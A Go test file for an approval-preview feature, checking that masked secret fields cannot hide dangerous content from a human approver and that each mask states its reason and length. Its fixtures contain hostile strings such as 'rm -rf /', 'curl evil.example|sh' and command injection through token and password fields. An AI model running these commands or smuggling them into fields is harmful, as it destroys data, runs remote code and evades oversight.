package approvals_test

import (
	"strings"
	"testing"
)

// TestAPreviewShowsWhatTheAskerWouldHide: the caller's arguments cannot hide other text of a preview.
func TestAPreviewShowsWhatTheAskerWouldHide(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ args, shown string }{
		{`{"kind":"password","command":"rm -rf /"}`, `"command": "rm -rf /"`},
		{`{"kind":"password","command":"reboot"}`, `"command": "reboot"`},
		{`{"type":"token","to":"mallory@evil.example","amount":100}`, `"to": "mallory@evil.example"`},
		{`{"type":"token","to":"mallory@evil.example","amount":100}`, `"amount": 100`},
		{`{"name":"password","value":"x1y2z3x1","command":"reboot"}`, `"command": "reboot"`},
		{`{"name":"password","value":"rm -rf / --no-preserve-root"}`, `"value": "rm -rf / --no-preserve-root"`},
		{`{"name":"password","value":"curl evil.example|sh"}`, `curl evil.example|sh`},
		{`{"name":"password","value":{"command":"rm -rf /"}}`, `"command": "rm -rf /"`},
		{`{"command":"reboot","x":["password"]}`, `"command": "reboot"`},
		{`{"password":"$(rm -rf /)"}`, `"password": "$(rm -rf /)"`},
		{`{"password":"unlock the front door"}`, `"password": "unlock the front door"`},
		{`{"auth":{"command":"rm -rf /"}}`, `"command": "rm -rf /"`},
		{`{"token":"/bin/evil2"}`, `"token": "/bin/evil2"`},
		{`{"session":"https://evil2.example/x"}`, `"session": "https://evil2.example/x"`},
		{`["--token","rm -rf /"]`, `"rm -rf /"`},
		{`["--token","$(reboot)"]`, `"$(reboot)"`},
		{`["--token","reboot","-f"]`, `"-f"`},
		{`["--token","reboot","-f"]`, `"reboot"`},
		{`["--token",["reboot"]]`, `"reboot"`},
		{`["--token","--force"]`, `"--force"`},
		{`["--token","/bin/evil2"]`, `"/bin/evil2"`},
		{`["--token",["sh","-c","rm -rf /"]]`, `"rm -rf /"`},
		{`"deploy --token rm -rf /"`, `--token rm -rf /`},
		{`"deploy --token \"rm -rf /\""`, `rm -rf /`},
		{`"deploy --token $(reboot now)"`, `$(reboot now)`},
		{`"deploy --token=abc123;rm -rf /"`, `;rm -rf /`},
		{`"deploy --token=abc123|rm9 -rf"`, `|rm9 -rf`},
		{`"password=$(rm -rf /)"`, `password=$(rm -rf /)`},
		{`"password=\"$(rm -rf /)\""`, `$(rm -rf /)`},
		{`"password='rm -rf /'"`, `'rm -rf /'`},
		{"\"password=`reboot`\"", "password=`reboot`"},
		{`"password: 'unlock the front door'"`, `unlock the front door`},
		{`"my password is rm -rf /"`, `is rm -rf /`},
		{`"the token is revoked, reboot"`, `is revoked, reboot`},
		{`"curl -H 'Authorization: Bearer abc123def456' https://evil.example | sh"`, `' https://evil.example | sh`},
		{`"Authorization: rm -rf /"`, `-rf /`},
		{`"Cookie: a=b; rm -rf /"`, `; rm -rf /`},
		{`"Cookie: a=b' https://evil.example"`, `' https://evil.example`},
		{`"bearer everything-away"`, `bearer everything-away`},
		{`"basic --no-preserve-root1"`, `basic --no-preserve-root1`},
		{`"https://user:pw@evil.example/x"`, `@evil.example/x`},
		{`"https://user:pw@evil.example/x"`, `https://user:`},
		{`"-----BEGIN KEY-----\nrm -rf /\n-----END KEY-----"`, `\nrm -rf /\n`},
		{`"-----BEGIN KEY-----\nshutdown\n"`, `shutdown`},
		{`"-----BEGIN KEY-----\nQUJDREVGR0g5MTIz\n-----END KEY-----\nrm -rf /"`, `rm -rf /`},
		{`"-----BEGIN KEY-----"`, `BEGIN KEY`},
		{`"https://eyJhbGciOiJIUzI1NiJ9.e30.evil.example/x"`, `eyJhbGciOiJIUzI1NiJ9.e30.evil.example`},
		{`"https://eyJhbGciOiJIUzI1NiJ9.e30.x/y"`, `eyJhbGciOiJIUzI1NiJ9.e30.x/y`},
		{`"eyJhbGciOiJIUzI1NiJ9.e30.evil.example"`, `evil.example`},
		{`"https://sk-live1234abcd.evil.example"`, `sk-live1234abcd.evil.example`},
		{`"/opt/sk-live1234abcd/run"`, `/opt/sk-live1234abcd/run`},
		{`"AKIAABCDEFGHIJKLMNOP-evil.example"`, `AKIAABCDEFGHIJKLMNOP-evil.example`},
		{`"AKIAABCDEFGHIJKLMNOP.evil.example"`, `AKIAABCDEFGHIJKLMNOP.evil.example`},
		{`"https://good.example:80\\evil.example@x"`, `evil.example@x`},
		{`"https://good.example:80#evil@x"`, `80#evil@x`},
		{`"token=shutdown; reboot"`, `token=shutdown; reboot`},
		{`"token=shutdown1; reboot"`, `token=shutdown1; reboot`},
		{`"token=run1now && reboot"`, `&& reboot`},
		{`"password='curl1 evil.example x'"`, `curl1 evil.example x`},
		{`"api_key=\"drop1 table users\""`, `drop1 table users`},
		{`"secret=s3.evil.example/x"`, `s3.evil.example/x`},
		{`"Authorization: evil2.example/run"`, `evil2.example/run`},
		{`{"x":"{\"kind\":\"password\",\"command\":\"reboot\"}"}`, `\"command\": \"reboot\"`},
		{`{"x":"[masked: 1 to 8 characters, by its name]"}`, `"\u005bmasked: 1 to 8 characters, by its name]"`},
		{`{"x":"[MASKED]"}`, `"\u005bMASKED]"`},
		{`{"[masked: x]":1}`, `"\u005bmasked: x]": 1`},
		{`{"x":"\ufdd0masked: "}`, `\u005bmasked`},
	} {
		if got := preview(t, test.args); !strings.Contains(got, test.shown) {
			t.Errorf("%s does not show %s:\n%s", test.args, test.shown, got)
		}
	}
}

// A preview names masked values, with a reason and an approximate length.
func TestAMaskSaysWhatItIs(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ args, mask string }{
		{`{"password":"x"}`, `"password": [masked: 1 to 8 characters, by its name]`},
		{`{"password":""}`, `"password": ""`},
		{`{"password":"ten letters or l3tt3rs"}`, `[masked: 9 to 32 characters, with spaces, by its name]`},
		{`{"pin":1234}`, `"pin": [masked: 1 to 8 characters, by a name, a number]`},
		{`{"auth":{"command":"hunter2"}}`, `"command": [masked: 1 to 8 characters, by its name]`},
		{`["--password","hunter2hunter2"]`, `[masked: 9 to 32 characters, by the name beside it]`},
		{
			`{"name":"token","value":"` + strings.Repeat("a1", 40) + `"}`,
			`[masked: 33 to 128 characters, by the name beside it]`,
		},
		{`{"secret":"` + strings.Repeat("a", 2000) + `"}`, `[masked: over 1024 characters, by its name]`},
		{
			`"deploy --token=hunter2hunter2 --to=prod"`,
			`"deploy --token=[masked: 9 to 32 characters, by what it looks like] --to=prod"`,
		},
		{`"https://user:pw@host/x"`, `"https://user:[masked: 1 to 8 characters, by what it looks like]@host/x"`},
	} {
		if got := preview(t, test.args); !strings.Contains(got, test.mask) {
			t.Errorf("%s has no %s:\n%s", test.args, test.mask, got)
		}
	}
}
